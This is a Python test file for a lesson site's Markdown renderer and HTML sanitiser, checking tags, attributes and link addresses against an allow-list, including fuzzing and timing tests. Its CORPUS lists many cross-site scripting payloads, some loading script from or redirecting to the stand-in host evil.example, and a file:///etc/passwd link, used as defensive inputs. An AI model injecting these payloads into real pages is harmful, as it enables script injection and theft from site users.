"""What reaches a page: tags, attributes and addresses of the allow-list, whatever is written."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lessons.render import ATTRIBUTES, TAGS, link_allowed, render, sanitise, term_of
from tests.lessons.samples import html_of

SIZE = 32 * 1024
# What attackers write, after the classic collections of cross-site scripting.
CORPUS = [
    "<script>alert(1)</script>",
    "::: quiz q\n<script>alert(1)</script>\n\n- [x] <img src=x onerror=alert(1)>"
    "\n\n  <svg onload=alert(1)>\n:::",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<p hx-get=/x hx-trigger=load>",
    "<p data-hx-post=/orders style=position:fixed class=fill>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    '[x](/help "onmouseover=alert(1) \\" x=")',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "``` x onload=alert(1)\n```",
    "`</code><script>alert(1)</script>`",
    "::: term <script>alert(1)</script>\n<img src=x onerror=alert(1)>\n:::",
    "| <script> | x |\n|---|---|\n| <img onerror=x> | [x](javascript:y) |",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script\x00>alert(1)</script>",
]


class Page(HTMLParser):
    """Reads HTML as a browser would and complains of everything outside the allow-list."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            fixed = (name, value) in (("rel", "noopener noreferrer"), ("class", "num"))
            if not fixed and name not in ATTRIBUTES.get(tag, set()):
                self.bad.append(f"{tag} {name}={value}")
            if name == "href" and not link_allowed(value or ""):
                self.bad.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"instruction {data}")


def expect_safe(html: str) -> None:
    page = Page()
    page.feed(html)
    page.close()
    assert page.bad == []
    assert sanitise(html).text == html


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_dangerous_comes_through(text: str) -> None:
    expect_safe(html_of(text))
    expect_safe(sanitise(text).text)
    expect_safe(html_of(f"- > a {text}\n\n{text}"))


def test_each_layer_stops_a_bad_address_alone() -> None:
    assert "<a" not in html_of("[x](javascript:alert(1)) [y](//evil.example)")
    assert sanitise("<a href=//evil.example>x</a>").text == '<a rel="noopener noreferrer">x</a>'


WORDS = st.sampled_from(
    [*CORPUS, "::: term A\n", "\n:::\n", "\n\n", "|a|\n|-:|\n", "> ", "- ", "1) "]
)
MARKED = st.lists(WORDS | st.text(max_size=20), max_size=12).map("".join)


@given(st.text() | MARKED)
def test_no_text_is_unsafe(text: str) -> None:
    expect_safe(html_of(text))


@given(MARKED)
def test_no_html_is_unsafe(html: str) -> None:
    expect_safe(sanitise(html).text)


@pytest.mark.parametrize(
    "unit",
    [
        *("![", "![\n", "![](", "](", "[", "[a](", "[a]: b\n", "*", "*a_", "`a ", "\\", "#"),
        *("<", "<a ", "<!--", "&#", "> ", "- ", "* * ", "a|", "|a|b|\n|-|-|\n", "::: term A\n"),
    ],
)
def test_a_full_text_takes_less_than_two_seconds(unit: str) -> None:
    text = (unit * SIZE)[:SIZE]
    began = time.process_time()
    expect_safe(html_of(text))
    assert time.process_time() - began < 2


def test_emphasis_without_end_does_no_harm() -> None:
    expect_safe(html_of("*" * 16_000 + "a" + "*" * 16_000))


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("/", True),
        ("/learn/first-trade?x=1#y", True),
        ("https://doi.org/10.1111/0022-1082.00226", True),
        ("HTTP://a.example", True),
        ("mailto:a@b.example", True),
        ("", False),
        ("help", False),
        ("#x", False),
        ("?x", False),
        ("//a.example", False),
        ("/\\a.example", False),
        ("/a b", False),
        ("/a\nb", False),
        ("https:///a", False),
        ("https:a", False),
        ("mailto:", False),
        ("javascript:x", False),
        ("/" + "a" * 2000, False),
    ],
)
def test_where_a_link_may_lead(address: str, allowed: bool) -> None:
    assert link_allowed(address) is allowed


def test_a_term_opens_without_scripts() -> None:
    html = html_of("::: term Bid & ask\nTwo *prices*.\n:::\n")
    assert html == (
        "<details><summary><dfn>Bid &amp; ask</dfn></summary>\n"
        "<p>Two <em>prices</em>.</p>\n</details>\n"
    )
    assert term_of(" term Bid & ask ") == "Bid & ask"
    assert term_of("terms") == term_of("term") == term_of("quiz x") == ""


def test_columns_of_numbers_need_no_inline_style() -> None:
    html = html_of("|a|b|c|\n|-|-:|:-:|\n|1|2|3|\n")
    assert '<th class="num">b</th>' in html
    assert '<td class="num">2</td>' in html
    assert "<td>3</td>" in html
    assert "style" not in html


def test_the_same_text_is_rendered_once() -> None:
    assert render("Once.") is render("Once.")
    assert [one.text for one in render("Once.")] == ["<p>Once.</p>\n"]
